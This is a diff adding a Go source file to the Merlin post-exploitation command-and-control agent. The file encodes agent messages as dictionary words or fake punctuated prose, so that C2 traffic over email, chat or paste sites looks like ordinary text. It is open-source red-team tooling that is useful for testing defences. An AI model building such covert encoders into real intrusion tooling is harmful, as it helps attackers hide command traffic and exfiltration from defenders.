@@ -0,0 +1,211 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package words encodes/decodes Agent messages as English dictionary words so that channels where binary or Base64
+// data would stand out, such as email bodies, chat services, or paste sites, carry what looks like ordinary text
+package words
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"math/rand"
+	"strings"
+	"unicode"
+
+	// Internal
+	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
+)
+
+const (
+	// WORDS encodes each byte as one lowercase word separated by a space
+	WORDS = 0
+	// PROSE encodes each byte as one word and arranges the words into capitalized, punctuated sentences mixed with
+	// filler words that carry no data
+	PROSE = 1
+)
+
+// dictionary holds the 256 words that each byte value maps to by index
+var dictionary = [256]string{
+	"able", "above", "again", "alone", "also", "ask", "away", "bag", "ball", "bank", "base", "bear", "bed",
+	"begin", "best", "big", "bill", "bird", "black", "blood", "blue", "boat", "book", "both", "box", "boy",
+	"bring", "build", "buy", "call", "car", "card", "care", "cat", "cell", "chair", "child", "city", "claim",
+	"clear", "coach", "color", "could", "court", "cover", "cross", "cup", "dead", "deal", "dear", "deep", "die",
+	"draw", "dream", "drive", "drop", "east", "easy", "even", "event", "exist", "face", "fail", "fall", "feel",
+	"few", "film", "final", "fine", "fire", "first", "floor", "focus", "food", "form", "full", "game", "gas",
+	"girl", "give", "great", "guess", "gun", "guy", "hair", "hand", "happy", "hard", "high", "hill", "hold",
+	"home", "hope", "hot", "hour", "huge", "human", "idea", "iron", "item", "join", "jump", "key", "king",
+	"know", "lake", "land", "large", "last", "leave", "leg", "less", "level", "lie", "life", "like", "line",
+	"list", "long", "loss", "lot", "lunch", "main", "many", "mark", "might", "mind", "miss", "model", "money",
+	"month", "moon", "most", "mouth", "move", "near", "never", "new", "nine", "north", "offer", "often", "oil",
+	"once", "only", "order", "other", "over", "own", "paint", "pair", "park", "part", "past", "path", "pay",
+	"peace", "phone", "pick", "piece", "place", "plant", "pool", "pull", "push", "radio", "rate", "reach",
+	"read", "rest", "rich", "ride", "right", "ring", "rise", "road", "round", "rule", "run", "sail", "sand",
+	"save", "scene", "score", "seem", "sell", "send", "sense", "serve", "set", "seven", "share", "shop", "shot",
+	"side", "sign", "sit", "size", "sleep", "small", "soil", "south", "space", "spend", "sport", "stage",
+	"start", "state", "step", "stock", "stone", "stop", "store", "story", "style", "sugar", "tall", "task",
+	"tea", "team", "tell", "ten", "test", "thank", "thing", "think", "throw", "time", "tone", "trade", "train",
+	"tree", "true", "try", "two", "type", "unit", "until", "value", "very", "voice", "vote", "wait", "walk",
+	"warm", "watch", "wave", "wear", "west", "wheel", "wind", "wish", "woman", "wood", "word", "yard",
+}
+
+// fillers are common words that PROSE inserts between data words to make the text read more naturally.
+// None of them appear in the dictionary, so they are discarded when decoding
+var fillers = []string{"the", "a", "and", "of", "to", "in", "on", "with", "for", "is", "was", "it", "that", "as", "at", "by", "from"}
+
+// lookup maps each dictionary word, and each filler word to -1, back to its byte value
+var lookup = make(map[string]int, len(dictionary)+len(fillers))
+
+func init() {
+	for i, word := range dictionary {
+		lookup[word] = i
+	}
+	for _, word := range fillers {
+		lookup[word] = -1
+	}
+	transformer.Register("words", func() transformer.Transformer { return NewEncoder(WORDS) })
+	transformer.Register("words-prose", func() transformer.Transformer { return NewEncoder(PROSE) })
+}
+
+// Coder is the structure that implements the Transformer interface for dictionary word encoding
+type Coder struct {
+	concrete int
+}
+
+// NewEncoder is a factory that returns a structure that implements the Transformer interface
+func NewEncoder(concrete int) *Coder {
+	return &Coder{concrete: concrete}
+}
+
+// Construct takes in data, encodes every byte as a dictionary word, and returns the text as bytes
+func (c *Coder) Construct(data any, key []byte) (retData []byte, err error) {
+	var in []byte
+	switch data.(type) {
+	case []uint8:
+		in = data.([]byte)
+	case string:
+		in = []byte(data.(string))
+	default:
+		return nil, fmt.Errorf("transformer/encoders/words.Construct(): unhandled data type for Construct(): %T", data)
+	}
+	switch c.concrete {
+	case WORDS:
+		var text strings.Builder
+		for i, b := range in {
+			if i > 0 {
+				text.WriteByte(' ')
+			}
+			text.WriteString(dictionary[b])
+		}
+		retData = []byte(text.String())
+	case PROSE:
+		retData = prose(in)
+	default:
+		err = fmt.Errorf("transformer/encoders/words.Construct(): unhandled concrete type %d", c.concrete)
+	}
+	return
+}
+
+// prose arranges the dictionary words for the data into sentences of 5 to 14 words, with the occasional comma and
+// filler word, separated into paragraphs of 3 to 6 sentences
+func prose(data []byte) []byte {
+	var text strings.Builder
+	var sentence, paragraph int
+	// #nosec G404 -- Random number does not impact security
+	length := 5 + rand.Intn(10)
+	// #nosec G404 -- Random number does not impact security
+	sentences := 3 + rand.Intn(4)
+	for i, b := range data {
+		word := dictionary[b]
+		if sentence > 0 {
+			// #nosec G404 -- Random number does not impact security
+			switch n := rand.Intn(10); {
+			case n == 0 && sentence < length-1:
+				text.WriteString(", ")
+			case n < 4:
+				// #nosec G404 -- Random number does not impact security
+				text.WriteString(" " + fillers[rand.Intn(len(fillers))] + " ")
+			default:
+				text.WriteByte(' ')
+			}
+		} else {
+			word = strings.ToUpper(word[:1]) + word[1:]
+		}
+		text.WriteString(word)
+		sentence++
+		if sentence < length && i < len(data)-1 {
+			continue
+		}
+		text.WriteByte('.')
+		sentence = 0
+		// #nosec G404 -- Random number does not impact security
+		length = 5 + rand.Intn(10)
+		if i == len(data)-1 {
+			break
+		}
+		paragraph++
+		if paragraph < sentences {
+			text.WriteByte(' ')
+			continue
+		}
+		text.WriteString("\n\n")
+		paragraph = 0
+		// #nosec G404 -- Random number does not impact security
+		sentences = 3 + rand.Intn(4)
+	}
+	return []byte(text.String())
+}
+
+// Deconstruct takes in text and decodes each dictionary word back to its byte value
+// Case, punctuation, whitespace, and filler words are ignored so that both concrete types decode the same way
+func (c *Coder) Deconstruct(data, key []byte) (any, error) {
+	switch c.concrete {
+	case WORDS, PROSE:
+	default:
+		return nil, fmt.Errorf("transformer/encoders/words.Deconstruct(): unhandled concrete type %d", c.concrete)
+	}
+	fields := bytes.FieldsFunc(data, func(r rune) bool {
+		return !unicode.IsLetter(r)
+	})
+	retData := make([]byte, 0, len(fields))
+	for _, field := range fields {
+		b, ok := lookup[strings.ToLower(string(field))]
+		if !ok {
+			return nil, fmt.Errorf("transformer/encoders/words.Deconstruct(): the word %q is not in the dictionary", field)
+		}
+		if b < 0 {
+			continue
+		}
+		retData = append(retData, byte(b))
+	}
+	return retData, nil
+}
+
+// String converts the word encode/decode constant to a string
+func (c *Coder) String() string {
+	switch c.concrete {
+	case WORDS:
+		return "words"
+	case PROSE:
+		return "words-prose"
+	default:
+		return fmt.Sprintf("unknown words transform %d", c.concrete)
+	}
+}